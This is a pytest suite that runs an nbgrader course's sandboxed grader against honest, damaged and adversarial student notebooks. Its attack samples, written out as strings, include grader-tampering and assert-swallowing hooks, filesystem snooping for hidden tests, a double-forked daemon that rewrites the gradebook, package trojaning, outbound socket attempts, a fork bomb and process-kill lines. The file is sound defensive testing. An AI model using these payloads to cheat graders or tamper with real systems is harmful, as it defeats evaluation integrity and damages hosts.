"""The nbgrader pipeline end to end, with real nbgrader commands on a temporary copy of the course.

One batch of a1 submissions (reference, release, partial, damaged notebooks, cheats and attacks on the grader) is
graded once by ``grade.py`` in its sandbox, as a lecturer runs it; the tests below read its results and check that
every attack earns nothing, changes nothing outside its staging folder and reaches no socket. a2 and a3 (whose last
part trains a policy with the student's loss) are checked for full marks and zero. Slow: a few minutes in all.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("assignments")]

ROOT = Path(__file__).resolve().parents[1]
COURSE = ROOT / "assignments"
sys.path.insert(0, str(COURSE))
import grade

CELL_TIMEOUT = 20  # seconds; the course uses 60, a test needs the infinite loop to end sooner
ENV = dict(os.environ, PATH=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]),
           OMP_NUM_THREADS="1")


def nbgrader(course: Path, *args: str) -> str:
    out = subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=course, env=ENV, capture_output=True,
                         text=True, timeout=300, check=False)
    assert out.returncode == 0, out.stdout + out.stderr
    return out.stdout + out.stderr


def reference_solutions(course: Path, assignment: str) -> dict[str, str]:
    """grade_id -> the instructor's solution, markers removed (what a perfect student writes)."""
    nb = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: re.sub(r"[ \t]*### (BEGIN|END) SOLUTION\n", "", c.source)
            for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")}


def submit(course: Path, assignment: str, student: str, solutions: dict[str, str] | None = None, edit=None) -> None:
    """Hand in the released notebook with some solution cells replaced, optionally edited further."""
    nb = nbformat.read(course / "release" / assignment / f"{assignment}.ipynb", as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if solutions and gid in solutions:
            cell.source = solutions[gid]
    if edit is not None:
        edit(nb)
    folder = course / "submitted" / student / assignment
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{assignment}.ipynb")


def is_test(cell) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return meta.get("grade") and not meta.get("solution")


def prepend(gid: str, code: str):
    def edit(nb):
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
        cell.source = code + "\n" + cell.source
    return edit


def digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


SNOOP = """
import os, pathlib, sys
needles = [b"BEGIN HID" + b"DEN TESTS", b"[hid" + b"den] rope_rotate"]  # split: not found in this cell
skip = {"/usr", "/proc", "/sys", "/dev", os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}
tops = {"/", str(pathlib.Path.cwd()), COURSE_DIR}
for pid in pathlib.Path("/proc").glob("[0-9]*"):  # walk /proc up to the grading driver, as a real attacker would
    try:
        tops.add(str(pathlib.Path(pid / "cwd").resolve()))
    except OSError:
        pass
found, seen = [], 0
for top in sorted(tops):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]  # the system and Python: no course there
        for name in files:
            if name.endswith((".ipynb", ".db", ".json", ".py")):
                seen += 1
                try:
                    text = open(os.path.join(folder, name), "rb").read()
                except OSError:
                    continue
                if any(n in text for n in needles):
                    found.append(os.path.join(folder, name))
print(f"LEAKED from {found}" if found else f"nothing found in {seen} files")
"""

# set_custom_exc plus run_cell wrappers whose results carry no error: nbgrader alone gives every point.
FORGE = """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
_run_cell = ip.run_cell
def run_cell(*args, **kwargs):
    result = _run_cell(*args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
ip.run_cell = run_cell
"""

# Every statement of every later cell wrapped in try/except: failing asserts are skipped, the cell "runs to its end".
SWALLOW = """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Try(body=[s], handlers=[ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])],
                             orelse=[], finalbody=[]) for s in node.body]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Swallow())
"""

# A double-forked daemon in a new session that outlives grading and rewrites the real gradebook afterwards.
DAEMON = """
import os, time, sqlite3
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        try:
            open(os.path.join(COURSE_DIR, "PWNED"), "w").write("daemon")
            with sqlite3.connect(os.path.join(COURSE_DIR, "gradebook.db")) as db:
                db.execute("UPDATE grade SET auto_score = 99")
        except Exception as err:
            pass
        os._exit(0)
    os._exit(0)
print("daemon started")
"""

# Trojan the installed package (with an editable install: the repository) for the students graded next.
TROJAN = """
import minimoe, pathlib
for target in [pathlib.Path(minimoe.__file__), pathlib.Path(REPO_DIR) / "minimoe" / "__init__.py"]:
    try:
        with open(target, "a") as f:
            f.write("\\nraise SystemExit('trojaned')\\n")
        print("WROTE", target)
    except OSError as err:
        print("refused", target, type(err).__name__)
"""

NETWORK = """
import socket
for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, PORT), timeout=2).sendall(b"hello from a submission")
        print("CONNECTED", host)
    except OSError as err:
        print("no network", host, type(err).__name__)
"""

# Memory spread over child processes: each under the per-process limit, together over the sandbox's cap.
HOG = """
import subprocess, sys, time
children = [subprocess.Popen([sys.executable, "-c", "x = bytearray(900 * 2**20); import time; time.sleep(60)"])
            for _ in range(4)]
time.sleep(30)
"""

FORK_BOMB = """
import subprocess, time
children = [subprocess.Popen(["sleep", "60"]) for _ in range(100)]
time.sleep(30)
"""

FAKE_GRADE_CELL = {"grade": True, "grade_id": "free_points", "locked": True, "points": 50, "schema_version": 3,
                   "solution": False, "task": False}


def attack(code: str, course: Path, port: int = 0) -> str:
    return (f"COURSE_DIR = {str(course)!r}\nREPO_DIR = {str(ROOT)!r}\nPORT = {port}\n" + code)


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    if grade.sandbox_problem():
        pytest.skip(f"no sandbox on this machine: {grade.sandbox_problem()} (`make grading-deps` installs it)")
    course = tmp_path_factory.mktemp("course")
    for name in ("nbgrader_config.py", "nbgrader_ext.py", "sandbox.py", "submission.py", "grade.py"):
        shutil.copy(COURSE / name, course / name)
    shutil.copytree(COURSE / "source", course / "source")
    with open(course / "nbgrader_config.py", "a") as f:
        f.write(f"\nc.Execute.timeout = {CELL_TIMEOUT}\nc.BoundedExecute.timeout = {CELL_TIMEOUT}\n")
    return course


@pytest.fixture(scope="module")
def secret(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("secret") / "grading-secret"


def release(course: Path, assignment: str) -> None:
    nbgrader(course, "generate_assignment", assignment, "--force")


class Listener:
    """A TCP server on the host's loopback that records every connection a submission manages to open."""

    def __init__(self):
        import socket
        import threading
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port, self.accepted = self.sock.getsockname()[1], []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                self.accepted.append(self.sock.accept())
            except OSError:
                return


def repo_digest() -> dict[str, str]:
    return digest(ROOT / "minimoe")


def delete_test_and_its_intro(nb):
    """Delete the last test cell together with the read-only markdown cell that introduces its part."""
    i = max(i for i, c in enumerate(nb.cells) if is_test(c))
    intro = max(j for j in range(i) if nb.cells[j].cell_type == "markdown")
    del nb.cells[i]
    del nb.cells[intro]


@pytest.fixture(scope="module")
def a1(course, secret):
    """Grade one class of a1 submissions (honest, cheats, attacks); returns (results by student, course, extras)."""
    release(course, "a1_mla")
    ref = reference_solutions(course, "a1_mla")
    from minimoe.config import ModelConfig
    tiny = ModelConfig.from_preset("tiny-dense")
    naive = tiny.num_attention_heads * (tiny.qk_nope_head_dim + tiny.qk_rope_head_dim + tiny.v_head_dim)
    absorbed = tiny.kv_lora_rank + tiny.qk_rope_head_dim
    listener = Listener()
    submit(course, "a1_mla", "solved", ref)
    submit(course, "a1_mla", "release")
    submit(course, "a1_mla", "partial", {"rope_rotate": ref["rope_rotate"]})
    submit(course, "a1_mla", "edited_tests",
           edit=lambda nb: [setattr(c, "source", "print('all tests passed')") for c in nb.cells if is_test(c)])
    submit(course, "a1_mla", "deleted_tests", ref, edit=lambda nb: setattr(nb, "cells", [
        c for c in nb.cells if not is_test(c)][::-1]))  # tests deleted, the rest reversed
    submit(course, "a1_mla", "deleted_intro", ref, edit=delete_test_and_its_intro)
    submit(course, "a1_mla", "stripped", ref, edit=lambda nb: [setattr(c, "metadata", {}) for c in nb.cells])
    submit(course, "a1_mla", "fake_grade_cell", ref, edit=lambda nb: nb.cells.append(nbformat.v4.new_code_cell(
        "print('free points')", metadata={"nbgrader": FAKE_GRADE_CELL})))
    submit(course, "a1_mla", "markers_in_code", ref,
           edit=prepend("rope_rotate", "# ### BEGIN HIDDEN TESTS\nnote = '### END HIDDEN TESTS'\n"))
    submit(course, "a1_mla", "monkeypatch", {
        "rope_rotate": "import torch\nimport minimoe.attention.rope as R\n"
                       "torch.allclose = lambda *a, **k: True\n"
                       "def rope_rotate(x, position_ids, base=10000.0):\n    return x.clone()\n"
                       "R.RotaryEmbedding.forward = lambda self, x, p: x.clone()\n",
        "mla_naive": "def mla_naive(mla, cfg, x):\n    return torch.zeros_like(x)\n"})
    submit(course, "a1_mla", "calls_reference", {
        "rope_rotate": "from minimoe.attention.rope import RotaryEmbedding\n"
                       "def rope_rotate(x, position_ids, base=10000.0):\n"
                       "    return RotaryEmbedding(x.shape[-1], 4096, base)(x, position_ids)\n",
        "mla_naive": "def mla_naive(mla, cfg, x):\n    return mla(x)\n"})
    submit(course, "a1_mla", "hardcoded", {
        "cache_elements_per_token": f"def cache_elements_per_token(cfg, mode):\n"
                                    f"    return {{'naive': {naive}, 'absorbed': {absorbed}}}[mode]\n"})
    submit(course, "a1_mla", "eq_override", {
        "cache_elements_per_token": "class Anything(int):\n    def __eq__(self, other):\n        return True\n"
                                    "    __hash__ = int.__hash__\n"
                                    "def cache_elements_per_token(cfg, mode):\n    return Anything(0)\n"})
    submit(course, "a1_mla", "infinite_loop", ref,  # sleeps rather than spins: the same timeout, no CPU burnt
           edit=prepend("mla_naive", "import time\nwhile True:\n    time.sleep(0.5)\n"))
    submit(course, "a1_mla", "exit_and_flood", edit=prepend(
        "rope_rotate", "for i in range(300000):\n    print(i, 'x' * 50)\nimport sys\nsys.exit(0)\n"))
    submit(course, "a1_mla", "os_exit", ref, edit=prepend("mla_naive", "import os\nos._exit(0)\n"))
    submit(course, "a1_mla", "kills_grader", edit=prepend(
        "rope_rotate", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)\n"))
    submit(course, "a1_mla", "snoop", edit=prepend("rope_rotate", attack(SNOOP, course)))
    submit(course, "a1_mla", "forger", edit=prepend("rope_rotate", FORGE))
    submit(course, "a1_mla", "swallow", edit=prepend("rope_rotate", SWALLOW))
    submit(course, "a1_mla", "daemon", ref, edit=prepend("rope_rotate", attack(DAEMON, course)))
    submit(course, "a1_mla", "trojan", ref, edit=prepend("rope_rotate", attack(TROJAN, course)))
    submit(course, "a1_mla", "network", ref, edit=prepend("rope_rotate", attack(NETWORK, course, listener.port)))
    submit(course, "a1_mla", "memory_hog", ref, edit=prepend("rope_rotate", HOG))
    submit(course, "a1_mla", "fork_bomb", ref, edit=prepend("rope_rotate", FORK_BOMB))
    (course / "submitted" / "not_json" / "a1_mla").mkdir(parents=True)
    (course / "submitted" / "not_json" / "a1_mla" / "a1_mla.ipynb").write_text('{"cells": [')
    before, package = digest(course / "submitted"), repo_digest()
    results = {r.student: r for r in grade.grade_class(course, "a1_mla", jobs=2, timeout=240, memory_gib=2.5,
                                                       secret_file=secret, progress=lambda line: None)}
    time.sleep(6)  # the daemon's moment, had it survived
    assert digest(course / "submitted") == before, "grading changed submitted/"
    return results, course, {"listener": listener, "package_before": package}


def autograded_text(course: Path, student: str, assignment: str = "a1_mla") -> str:
    nb = nbformat.read(course / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)
    return "\n".join(" ".join([str(o.get("text", "")), str(o.get("ename", "")), str(o.get("evalue", ""))])
                     for c in nb.cells if c.cell_type == "code" for o in c.outputs)


AUTO_POINTS = 12.0  # a1's autograded points; the written answer (2 more) is graded by hand


def test_reference_solution_scores_full_marks(a1):
    results, _, _ = a1
    assert results["solved"].status == "ok" and results["solved"].score == AUTO_POINTS


def test_release_scores_zero(a1):
    results, _, _ = a1
    assert results["release"].status == "ok" and results["release"].score == 0


def test_partial_solution_scores_in_between(a1):
    results, _, _ = a1
    assert results["partial"].score == 2.0


@pytest.mark.parametrize("student", ["edited_tests", "monkeypatch", "calls_reference", "hardcoded", "eq_override",
                                     "exit_and_flood", "snoop", "forger", "swallow"])
def test_cheats_earn_nothing(a1, student):
    results, _, _ = a1
    assert results[student].status == "ok", results[student].reason
    assert results[student].score == 0, f"{student} earned {results[student].score}"


@pytest.mark.parametrize("student", ["forger", "swallow"])
def test_tampering_with_ipython_is_flagged(a1, student):
    results, course, _ = a1
    assert any("tampered" in f for f in results[student].flags), results[student].flags
    assert "execution machinery modified" in autograded_text(course, student)


@pytest.mark.parametrize("student", ["deleted_tests", "deleted_intro", "stripped", "fake_grade_cell",
                                     "markers_in_code"])
def test_damaged_notebooks_are_rebuilt_and_graded(a1, student):
    results, course, _ = a1
    assert results[student].status == "ok", results[student].reason
    assert results[student].score == AUTO_POINTS, student
    nb = nbformat.read(course / "autograded" / student / "a1_mla" / "a1_mla.ipynb", as_version=4)
    assert sum(1 for c in nb.cells if "### BEGIN HIDDEN TESTS" in c.source) == 4
    assert "free_points" not in {c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells}


def test_unreadable_notebook_is_reported_with_feedback(a1):
    results, course, _ = a1
    assert results["not_json"].status == "failed" and "not a readable notebook" in results["not_json"].reason
    assert "submit again" in (course / "feedback" / "not_json" / "a1_mla" / "NOT-GRADED.txt").read_text()


def test_infinite_loop_hits_the_cell_timeout_and_grading_goes_on(a1):
    results, course, _ = a1
    assert results["infinite_loop"].status == "ok"
    text = autograded_text(course, "infinite_loop")
    assert "CellTimeoutError" in text or "KeyboardInterrupt" in text, text
    assert results["infinite_loop"].score == AUTO_POINTS - 4  # the looping cell never defined mla_naive
    assert results["solved"].score == AUTO_POINTS  # graded beside it


def test_flood_is_truncated(a1):
    _, course, _ = a1
    size = (course / "autograded" / "exit_and_flood" / "a1_mla" / "a1_mla.ipynb").stat().st_size
    assert size < 200_000 and "truncated" in autograded_text(course, "exit_and_flood")


def test_dead_kernel_is_reported_not_a_silent_zero(a1):
    results, _, _ = a1
    assert results["os_exit"].status == "failed" and results["os_exit"].reason
    assert results["solved"].status == "ok"  # the batch went on
    assert "kills the kernel" in results["os_exit"].flags


def test_the_grader_is_out_of_the_kernels_reach(a1):
    results, _, _ = a1  # its parent and pid 1 are the sandbox's own init, which ignores the signal
    assert results["kills_grader"].status == "ok" and results["kills_grader"].score == 0
    assert "kills the kernel" in results["kills_grader"].flags


@pytest.mark.parametrize("student, reason", [("memory_hog", "GiB cap"), ("fork_bomb", "processes")])
def test_caps_hold_across_child_processes(a1, student, reason):
    results, _, _ = a1
    assert results[student].status == "failed" and reason in results[student].reason, results[student].reason


def test_hidden_tests_and_other_students_are_out_of_reach(a1):
    _, course, _ = a1
    text = autograded_text(course, "snoop")
    assert "nothing found in" in text and "LEAKED" not in text, text
    with sqlite3.connect(course / "gradebook.db") as db:  # the course's own gradebook is left intact
        assert db.execute("SELECT count(*) FROM source_cell WHERE source LIKE '%BEGIN HIDDEN TESTS%'").fetchone()[0]


def test_nothing_outlives_grading_or_writes_outside_its_folder(a1):
    results, course, _ = a1
    assert results["daemon"].status == "ok" and results["daemon"].score == AUTO_POINTS
    assert not (course / "PWNED").exists()
    assert grade.verify_gradebook(course, "a1_mla", list(results.values())) == []
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=False).stdout
    assert "minimoe-grade-a1_mla" not in ps  # no process left in a staging folder
    assert not list(Path(tempfile.gettempdir()).glob("minimoe-grade-a1_mla-*"))


def test_the_package_and_the_repository_are_read_only(a1):
    results, course, extras = a1
    assert repo_digest() == extras["package_before"]
    text = autograded_text(course, "trojan")
    assert "WROTE" not in text and text.count("refused") == 2
    assert results["solved"].score == AUTO_POINTS


def test_no_socket_is_reachable(a1):
    _, course, extras = a1
    text = autograded_text(course, "network")
    assert "CONNECTED" not in text and text.count("no network") == 3, text
    assert extras["listener"].accepted == []


def test_grades_reach_the_gradebook_and_the_export(a1):
    _, course, _ = a1
    nbgrader(course, "export")
    rows = (course / "grades.csv").read_text().splitlines()
    by_student = {r.split(",")[3]: r for r in rows[1:] if r.startswith("a1_mla,")}
    assert float(by_student["solved"].split(",")[9]) == AUTO_POINTS
    assert float(by_student["partial"].split(",")[9]) == 2.0


def test_a_gradebook_changed_behind_the_graders_back_is_reported(a1, tmp_path):
    results, course, _ = a1
    copy = tmp_path / "course"
    shutil.copytree(course, copy, ignore=shutil.ignore_patterns("autograded", "feedback", "submitted"))
    with sqlite3.connect(copy / "gradebook.db") as db:
        db.execute("UPDATE grade SET auto_score = 0 WHERE auto_score > 0")
    problems = grade.verify_gradebook(copy, "a1_mla", list(results.values()))
    assert any(p.startswith("solved:") for p in problems)


def test_feedback_names_failures_without_revealing_hidden_tests(a1):
    results, course, _ = a1
    nbgrader(course, "generate_feedback", "a1_mla")  # one call: every graded student of the batch
    pages = {s: (course / "feedback" / s / "a1_mla" / "a1_mla.html").read_text()
             for s, r in results.items() if r.status == "ok"}
    assert len(pages) == sum(r.status == "ok" for r in results.values()) >= 10
    for student, html in pages.items():
        for secret in ("BEGIN HIDDEN TESTS", "MINIMOE_GRADING_SEED", "randint", "from_preset(_preset)",
                       "minimoe-evidence", "_minimoe_evidence"):
            assert secret not in html, (student, secret)
    assert "[hidden] rope_rotate: wrong value on unseen inputs" in pages["monkeypatch"]
    assert "[hidden] rope_rotate: called minimoe&#39;s reference" in pages["calls_reference"] or \
        "[hidden] rope_rotate: called minimoe's reference" in pages["calls_reference"]
    assert "NotImplementedError" in pages["release"]


def test_regrade_repeats_and_resume_skips_unchanged(a1, secret):
    results, course, _ = a1
    again = {r.student: r for r in grade.grade_class(course, "a1_mla", ["partial", "hardcoded"], secret_file=secret,
                                                     progress=lambda line: None)}
    assert {s: r.score for s, r in again.items()} == {s: results[s].score for s in again}
    resumed = {r.student: r for r in grade.grade_class(course, "a1_mla", ["partial", "solved"], secret_file=secret,
                                                       resume=True, progress=lambda line: None)}
    assert all(r.status == "skipped" for r in resumed.values())
    assert resumed["solved"].score == AUTO_POINTS


def test_seeds_depend_on_the_secret_the_student_and_the_assignment():
    a, b = b"secret one", b"secret two"
    assert grade.grading_seed(a, "a1_mla", "ann") == grade.grading_seed(a, "a1_mla", "ann")
    assert len({grade.grading_seed(a, "a1_mla", "ann"), grade.grading_seed(a, "a1_mla", "bob"),
                grade.grading_seed(a, "a2_moe_routing", "ann"), grade.grading_seed(b, "a1_mla", "ann")}) == 4


def test_grade_driver_refuses_without_a_release_or_a_sandbox(course, monkeypatch):
    with pytest.raises(SystemExit, match="no release"):
        grade.grade_class(course, "no_such_assignment")
    release(course, "a1_mla")
    monkeypatch.setattr(grade.sandbox, "bwrap_path", lambda: None)
    with pytest.raises(SystemExit, match="--unsafe-no-sandbox"):
        grade.grade_class(course, "a1_mla", ["solved"])


def test_ctrl_c_prints_the_summary_and_leaves_no_staging(course, secret, tmp_path):
    release(course, "a1_mla")
    for student in ("sleeper1", "sleeper2", "sleeper3"):
        submit(course, "a1_mla", student, edit=prepend("rope_rotate", "import time\ntime.sleep(60)\n"))
    env = dict(ENV, TMPDIR=str(tmp_path))
    proc = subprocess.Popen([sys.executable, str(course / "grade.py"), "a1_mla", "--course", str(course),
                             "--secret-file", str(secret), "--student", "sleeper1", "--student", "sleeper2",
                             "--student", "sleeper3"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    deadline = time.monotonic() + 60
    while not list(tmp_path.glob("minimoe-grade-*/sleeper*")) and time.monotonic() < deadline:
        time.sleep(0.2)
    time.sleep(3)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130, (out, err)
    assert "NOT GRADED" in out and "interrupted" in out
    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err
    assert not list(tmp_path.iterdir()), list(tmp_path.iterdir())


@pytest.mark.parametrize("assignment", ["a2_moe_routing", "a3_grpo", "a4_efficient_training"])
def test_other_assignments_full_marks_and_zero(course, secret, assignment):
    release(course, assignment)
    submit(course, assignment, "solved", reference_solutions(course, assignment))
    submit(course, assignment, "release")
    if assignment == "a3_grpo":
        submit(course, assignment, "deleted_intro", reference_solutions(course, assignment),
               edit=delete_test_and_its_intro)
    results = {r.student: r for r in grade.grade_class(course, assignment, jobs=2, timeout=240, secret_file=secret,
                                                       progress=lambda line: None)}  # one batch
    full = results["solved"].max_score - 2
    assert results["solved"].status == "ok" and results["solved"].score == full
    assert results["release"].status == "ok" and results["release"].score == 0
    if assignment == "a3_grpo":
        assert results["deleted_intro"].status == "ok" and results["deleted_intro"].score == full
